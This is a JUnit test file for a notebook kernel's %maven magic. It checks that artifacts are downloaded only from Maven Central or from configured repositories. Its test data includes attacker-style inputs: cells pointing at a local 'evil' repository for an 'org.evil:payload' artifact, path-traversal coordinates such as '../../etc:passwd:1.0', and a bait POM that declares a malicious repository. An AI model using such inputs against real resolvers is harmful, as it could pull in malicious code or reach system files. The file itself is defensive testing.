package dev.layerwise.kernel.magic;

import com.sun.net.httpserver.HttpServer;
import dev.layerwise.kernel.eval.CellOutcome;
import dev.layerwise.kernel.eval.Evaluator;
import org.eclipse.aether.repository.RemoteRepository;
import org.eclipse.aether.repository.RepositoryPolicy;
import org.eclipse.aether.resolution.DependencyResolutionException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * {@code %maven} downloads only from Maven Central and the repositories configured before the kernel
 * started: not from a URL in a cell, not from a repository a downloaded POM declares. A local HTTP
 * server stands in for the attacker's repository and counts what reaches it; nothing else is contacted.
 */
@Tag("unit")
class MavenRepositoriesTest {
    static HttpServer evil;
    static final AtomicInteger evilHits = new AtomicInteger();
    static Evaluator evaluator;
    static Magics magics;

    @BeforeAll
    static void start() throws Exception {
        evil = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        evil.createContext("/", exchange -> {
            evilHits.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        evil.start();
        evaluator = new Evaluator(Evaluator.defaultClassPath());
        evaluator.start();
        magics = new Magics(evaluator);
    }

    @AfterAll
    static void stop() {
        evil.stop(0);
        evaluator.close();
    }

    static String evilUrl() {
        return "http://127.0.0.1:" + evil.getAddress().getPort() + "/maven2/";
    }

    @Test
    void byDefaultOnlyMavenCentralOverHttpsWithVerifiedChecksums() {
        List<RemoteRepository> repos = MavenRepositories.parse(null, MavenRepositories.ENV);
        assertEquals(1, repos.size(), repos::toString);
        assertEquals("central", repos.get(0).getId());
        assertEquals("https://repo.maven.apache.org/maven2/", repos.get(0).getUrl());
        assertEquals(RepositoryPolicy.CHECKSUM_POLICY_FAIL, repos.get(0).getPolicy(false).getChecksumPolicy());
        assertFalse(repos.get(0).getPolicy(true).isEnabled(), "no snapshots from Central");
    }

    @Test
    void configuredRepositoriesFollowCentral() {
        String before = System.getProperty(MavenRepositories.PROPERTY);
        System.setProperty(MavenRepositories.PROPERTY, "company=https://repo.example.com/maven2, local=file:/srv/m2");
        try {
            List<String> urls = MavenRepositories.configured().stream().map(r -> r.getId() + "=" + r.getUrl()).toList();
            assertEquals(List.of("central=https://repo.maven.apache.org/maven2/", "company=https://repo.example.com/maven2",
                    "local=file:/srv/m2"), urls);
        } finally {
            if (before == null) {
                System.clearProperty(MavenRepositories.PROPERTY);
            } else {
                System.setProperty(MavenRepositories.PROPERTY, before);
            }
        }
    }

    @Test
    void plainHttpOrMalformedConfigurationIsRefusedWithTheFix() {
        IllegalArgumentException http = assertThrows(IllegalArgumentException.class,
                () -> MavenRepositories.parse("company=http://repo.example.com/maven2", MavenRepositories.ENV));
        assertTrue(http.getMessage().contains(MavenRepositories.ENV) && http.getMessage().contains("plain http")
                && http.getMessage().contains("https"), http.getMessage());
        IllegalArgumentException noId = assertThrows(IllegalArgumentException.class,
                () -> MavenRepositories.parse("https://repo.example.com/maven2", MavenRepositories.ENV));
        assertTrue(noId.getMessage().contains("is not id=url"), noId.getMessage());
        IllegalArgumentException twice = assertThrows(IllegalArgumentException.class,
                () -> MavenRepositories.parse("central=https://mirror.example.com/", MavenRepositories.ENV));
        assertTrue(twice.getMessage().contains("appears twice"), twice.getMessage());
    }

    @Test
    void aCellCannotNameARepositoryAndNothingIsContacted() {
        int before = evilHits.get();
        for (String cell : List.of("%maven --repo " + evilUrl() + " org.evil:payload:1.0",
                "%maven --repository=" + evilUrl() + " org.evil:payload:1.0",
                "%maven " + evilUrl() + "org/evil/payload/1.0/payload-1.0.jar")) {
            CellOutcome out = magics.runCell(cell);
            assertFalse(out.ok(), cell);
            String text = out.error().text();
            assertTrue(text.contains("refused") && text.contains("only from the configured repositories")
                    && text.contains("central (https://repo.maven.apache.org/maven2/)")
                    && text.contains(MavenRepositories.ENV), text);
        }
        assertEquals(before, evilHits.get(), "the refused repository was contacted");
    }

    @Test
    void coordinatesThatCouldLeaveTheLocalRepositoryAreRefused() {
        for (String coordinate : List.of("org.evil:payload:../../../../tmp", "../../etc:passwd:1.0", "a/b:c:1.0", "a:b")) {
            CellOutcome out = magics.runCell("%maven --offline " + coordinate);
            assertFalse(out.ok(), coordinate);
            assertTrue(out.error().text().contains("is not G:A:V or G:A:EXT:CLASSIFIER:V"), out.error().text());
        }
    }

    @Test
    void aRepositoryDeclaredInADownloadedPomIsNeverContacted(@TempDir Path dir) throws Exception {
        // a trusted repository serves "bait", whose POM declares the attacker's repository and a dependency only it has
        Path trusted = dir.resolve("trusted");
        publish(trusted, "org.bait", "bait", "1.0", """
                <project><modelVersion>4.0.0</modelVersion>
                  <groupId>org.bait</groupId><artifactId>bait</artifactId><version>1.0</version>
                  <repositories><repository><id>evil</id><url>%s</url></repository></repositories>
                  <dependencies><dependency>
                    <groupId>org.evil</groupId><artifactId>payload</artifactId><version>1.0</version>
                  </dependency></dependencies>
                </project>
                """.formatted(evilUrl()));
        RemoteRepository repo = MavenRepositories.parse("trusted=" + trusted.toUri(), "test").get(1);
        MavenResolver resolver = new MavenResolver(dir.resolve("local"), List.of(repo), false);
        int before = evilHits.get();

        DependencyResolutionException e = assertThrows(DependencyResolutionException.class,
                () -> resolver.resolve(List.of("org.bait:bait:1.0")));

        assertEquals(before, evilHits.get(), "the resolver contacted the repository a POM declared");
        assertTrue(e.getMessage().contains("org.evil:payload") && e.getMessage().contains("trusted (" + trusted.toUri()),
                e.getMessage());
        assertTrue(Files.exists(dir.resolve("local/org/bait/bait/1.0/bait-1.0.pom")), "bait itself came from the trusted repository");
    }

    /** Writes a jar (empty) and a POM with their SHA-1 files into a Maven 2 layout. */
    static void publish(Path repo, String group, String artifact, String version, String pom) throws Exception {
        Path folder = Files.createDirectories(repo.resolve(group.replace('.', '/')).resolve(artifact).resolve(version));
        byte[] jar = {0x50, 0x4b, 0x05, 0x06, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
        write(folder.resolve(artifact + "-" + version + ".jar"), jar);
        write(folder.resolve(artifact + "-" + version + ".pom"), pom.getBytes(StandardCharsets.UTF_8));
    }

    static void write(Path file, byte[] content) throws Exception {
        Files.write(file, content);
        String sha1 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(content));
        Files.writeString(file.resolveSibling(file.getFileName() + ".sha1"), sha1);
    }
}
